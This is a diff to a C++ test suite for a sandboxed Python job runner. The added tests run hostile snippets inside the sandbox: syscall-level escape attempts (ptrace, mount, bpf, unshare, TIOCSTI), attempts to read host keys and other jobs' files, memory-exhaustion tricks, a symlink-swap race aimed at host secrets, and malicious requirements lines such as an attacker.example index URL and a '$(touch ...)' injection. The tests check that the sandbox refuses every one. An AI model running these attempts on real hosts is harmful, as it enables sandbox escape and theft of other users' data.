@@ -72,7 +72,10 @@ struct Filler {
     const char* python;
     const char* words;
 };
-class DiskFillerTest : public BadInputTest, public testing::WithParamInterface<Filler> {};
+class DiskFillerTest : public BadInputTest, public testing::WithParamInterface<Filler> {
+protected:
+    DiskFillerTest() { settings.default_memory_bytes = 2ULL << 30U; }  // also as a limit of address space
+};
 
 TEST_P(DiskFillerTest, EndsWithItsNameWhileTheDiskHasRoom) {
     const Ran ran = attack(GetParam().python);
@@ -133,6 +136,189 @@ TEST_F(BadInputTest, AFileOfHolesTakesNoRoomAndComesBackNamed) {
     EXPECT_EQ(ran.log, "ok\n");
     EXPECT_EQ(ran.files.count("holes"), 0U);
     EXPECT_THAT(ran.outcome.notes, testing::Contains(HasSubstr("holes")));
+}
+
+/// Each call that would reach beyond the box, and the error that it gets instead.
+constexpr auto kRefused =
+    "import ctypes, errno, fcntl, os, pty, signal, socket\n"
+    "libc = ctypes.CDLL(None, use_errno=True)\n"
+    "def call(number, *a):\n"
+    "    return 'allowed' if libc.syscall(number, *a) >= 0 else errno.errorcode[ctypes.get_errno()]\n"
+    "def attempt(act):\n"
+    "    try: act(); return 'allowed'\n"
+    "    except OSError as e: return errno.errorcode[e.errno]\n";
+
+struct Attack {
+    const char* name;
+    const char* python;  ///< after kRefused; `HOST` is a file of the host, `PID` a process of it
+    const char* log;     ///< exactly
+};
+class AttackTest : public BadInputTest, public testing::WithParamInterface<Attack> {};
+
+TEST_P(AttackTest, IsRefusedAndTheJobGoesOn) {
+    test::write_file(folder() + "/keys/worker.key", "secret");
+    test::write_file(folder() + "/neighbour/other-1/job/data.csv", "secret");
+    const std::string places = "HOST = ['" + folder() + "/keys/worker.key', '" + folder() +
+                               "/neighbour/other-1/job/data.csv']\nPID = " + std::to_string(::getpid()) +
+                               "\n";
+    const Ran ran = attack(kRefused + places + GetParam().python);
+    EXPECT_EQ(ran.outcome.status, OutcomeStatus::succeeded) << ran.outcome.error << "\n" << ran.log;
+    EXPECT_EQ(ran.log, GetParam().log);
+}
+
+INSTANTIATE_TEST_SUITE_P(
+    BadInput, AttackTest,
+    testing::Values(
+        Attack{"SignalsToTheSupervisor",
+               "for number in [signal.SIGSTOP, signal.SIGKILL, signal.SIGTERM]: os.kill(1, number)\n"
+               "print('alive', sorted(p for p in os.listdir('/proc') if p.isdigit()) == ['1', "
+               "str(os.getpid())])\n",
+               "alive True\n"},
+        Attack{"Neighbours",
+               "print(attempt(lambda: os.kill(PID, 0)), attempt(lambda: os.listdir(f'/proc/{PID}')), "
+               "call(101, 16, PID, 0, 0), call(310, PID, 0, 0, 0, 0, 0), call(434, PID, 0))\n"
+               "print(attempt(lambda: os.setpriority(os.PRIO_PROCESS, PID, 5)))\n",
+               "ESRCH ENOENT EPERM EPERM ESRCH\nESRCH\n"},
+        Attack{"OtherJobsAndKeys",
+               "for path in HOST:\n"
+               "    for root in ['', '/proc/1/root', '/proc/self/root', '/proc/self/cwd/../..']:\n"
+               "        if attempt(lambda: open(root + path)) == 'allowed': print(root + path)\n"
+               "print('that is all')\n",
+               "that is all\n"},
+        Attack{"MoreRights",
+               "print(attempt(lambda: os.setuid(0)), attempt(lambda: os.setgid(0)), "
+               "attempt(lambda: os.setgroups([0])))\n"
+               "open('f', 'w').close(); os.chmod('f', 0o6755)\n"
+               "print(os.system('/bin/mount -t tmpfs x /tmp 2>/dev/null') != 0)\n"
+               "print(attempt(lambda: os.mknod('d', 0o20666, os.makedev(1, 1))), attempt(lambda: "
+               "os.chroot('/tmp')))\n",
+               "EINVAL EINVAL EPERM\nTrue\nEPERM EPERM\n"},
+        Attack{
+            "DangerousCalls",
+            "print('mount', call(165, 0, b'/', 0, 32, 0), 'bpf', call(321, 0, 0, 0), 'keyctl', call(250, 0, "
+            "0), "
+            "'add_key', call(248, 0, 0, 0, 0, 0), 'io_uring', call(425, 1, 0), 'unshare', call(272, "
+            "0x10000000), "
+            "'clone', call(56, 0x10000011, 0, 0, 0, 0), 'clone3', call(435, 0, 0), 'userfaultfd', call(323, "
+            "0), "
+            "'perf', call(298, 0, 0, 0, 0, 0), 'fsopen', call(430, b'tmpfs', 0), 'setns', call(308, 0, 0))\n",
+            "mount EPERM bpf EPERM keyctl EPERM add_key EPERM io_uring EPERM unshare EPERM clone EPERM "
+            "clone3 ENOSYS userfaultfd EPERM perf EPERM fsopen EPERM setns EPERM\n"},
+        Attack{"WordsIntoATerminal",
+               "import termios\n"
+               "ours, theirs = pty.openpty()\n"
+               "print(attempt(lambda: fcntl.ioctl(theirs, termios.TIOCSTI, b'x')), "
+               "attempt(lambda: fcntl.ioctl(theirs, 0x541C, b'\\x02')), attempt(lambda: os.open('/dev/tty', "
+               "2)))\n",
+               "EPERM EPERM ENXIO\n"}),
+    [](const auto& each) { return each.param.name; });
+
+/// Ways to take memory that no single process shows.
+class MemoryTest : public BadInputTest,
+                   public testing::WithParamInterface<std::pair<const char*, const char*>> {};
+
+TEST_P(MemoryTest, EndsAsOutOfMemoryByName) {
+    if (!cgroups.limits_memory()) { GTEST_SKIP() << "no memory control group can be made here"; }
+    const Ran ran = attack(GetParam().second);
+    EXPECT_EQ(ran.outcome.cause, Cause::out_of_memory) << ran.outcome.error << ran.log;
+    EXPECT_THAT(ran.outcome.error, HasSubstr("256 MiB"));
+}
+
+INSTANTIATE_TEST_SUITE_P(
+    BadInput, MemoryTest,
+    testing::Values(
+        std::pair{"Children",
+                  "import os, signal, sys\n"
+                  "made = []\n"
+                  "for i in range(8):\n"
+                  "    pid = os.fork()\n"
+                  "    if pid == 0: x = bytearray(64 << 20); signal.pause()\n"
+                  "    made.append(pid)\n"
+                  "os.wait()\n"
+                  "sys.exit(1)\n"},
+        std::pair{"Files", "f = open('/tmp/f', 'wb')\nwhile True: f.write(bytes(1 << 20))\n"},
+        std::pair{"SharedMemory", "f = open('/dev/shm/f', 'wb')\nwhile True: f.write(bytes(1 << 20))\n"},
+        std::pair{"FilesOfNoFolder",
+                  "import os\nf = os.memfd_create('f')\nwhile True: os.write(f, bytes(1 << 20))\n"}),
+    [](const auto& each) { return each.param.first; });
+
+TEST_F(BadInputTest, FilesInMemoryAreBoundedWithoutControlGroupsToo) {
+    cgroups = Cgroups::none();
+    const Ran ran = attack(
+        "for place in ['/tmp/f', '/dev/shm/f']:\n"
+        "    try:\n"
+        "        with open(place, 'wb') as f:\n"
+        "            while f.tell() < 1 << 30: f.write(bytes(1 << 20)); f.flush()\n"
+        "            print('unbounded')\n"
+        "    except OSError as e: print(e.strerror)\n");
+    EXPECT_EQ(ran.log, "No space left on device\nNo space left on device\n");
+}
+
+TEST_F(BadInputTest, ALogWithoutALineEndIsBounded) {
+    settings.max_log_bytes = 100'000;
+    const Ran ran = attack("import sys\nfor i in range(64): sys.stdout.write('x' * (1 << 20))\n");
+    EXPECT_EQ(ran.outcome.status, OutcomeStatus::succeeded) << ran.outcome.error;
+    EXPECT_LT(ran.log.size(), 110'000U);
+}
+
+TEST_F(BadInputTest, ASwapWhileItIsPackedBringsNothingOfTheHostBack) {
+    test::write_file(folder() + "/secret", "other people's data");
+    const Ran ran = attack(
+        "import os\n"
+        "open('output/a', 'w').write('mine')\n"
+        "if os.fork() == 0:\n"
+        "    os.setsid()\n"
+        "    while True:\n"
+        "        os.symlink('" +
+        folder() +
+        "/secret', 'output/link')\n"
+        "        os.replace('output/link', 'output/a')\n"
+        "        open('output/file', 'w').write('mine')\n"
+        "        os.replace('output/file', 'output/a')\n");
+    EXPECT_EQ(ran.outcome.status, OutcomeStatus::succeeded) << ran.outcome.error;
+    for (const auto& [name, content] : ran.files) {
+        EXPECT_EQ(content.find("people's data"), std::string::npos);
+    }
+}
+
+TEST_F(BadInputTest, OutputsThatAreNoFilesAreNamedAndLeftOut) {
+    const Ran ran = attack(
+        "import os, socket\n"
+        "os.mkfifo('output/pipe'); os.symlink('/etc/passwd', 'output/link')\n"
+        "socket.socket(socket.AF_UNIX).bind('output/socket')\n"
+        "open('output/kept', 'w').write('x')\n");
+    EXPECT_EQ(ran.files.size(), 2U) << "kept, and nias-job.json";
+    for (const char* name : {"pipe", "link", "socket"}) {
+        EXPECT_THAT(ran.outcome.notes, testing::Contains(HasSubstr(name)));
+    }
+}
+
+TEST_F(BadInputTest, RequirementsThatAttackAreRefusedAndASetupIsNotRun) {
+    for (const char* line :
+         {"-e .", ".", "--index-url http://attacker.example/", "git+file:///job", "-r /etc/passwd",
+          "x @ file:///job/x.whl", "../../../wheel.whl", "$(touch /job/ran)"}) {
+        const Ran ran = run({{"code.py", "print(1)\n"},
+                             {"setup.py", "open('/job/output/ran', 'w').write('x')\n"},
+                             {"requirements.txt", std::string(line) + "\n"}});
+        EXPECT_EQ(ran.outcome.cause, Cause::bad_bundle) << line << ": " << ran.outcome.error;
+        EXPECT_EQ(ran.starts, 0) << line;
+    }
+    const Ran ran =
+        run({{"code.py", "print(1)\n"}, {"setup.py", "open('/job/output/ran', 'w').write('x')\n"}});
+    EXPECT_EQ(ran.log, "1\n");
+    EXPECT_EQ(ran.files.count("ran"), 0U);
+}
+
+TEST_F(BadInputTest, FilesThatShadowTheToolsOfTheWorkerAreNotRun) {
+    const std::string attacker = "open('/job/output/ran', 'w').write('x')\n";
+    Files files{{"code.py", "print('ok')\n"}};
+    for (const char* name :
+         {"pip.py", "venv.py", "sitecustomize.py", "usercustomize.py", "bwrap", "python3", "bin/python3"}) {
+        files[name] = attacker;
+    }
+    const Ran ran = run(files);
+    EXPECT_EQ(ran.log, "ok\n") << ran.outcome.error;
+    EXPECT_EQ(ran.files.count("ran"), 0U);
 }
 
 }  // namespace
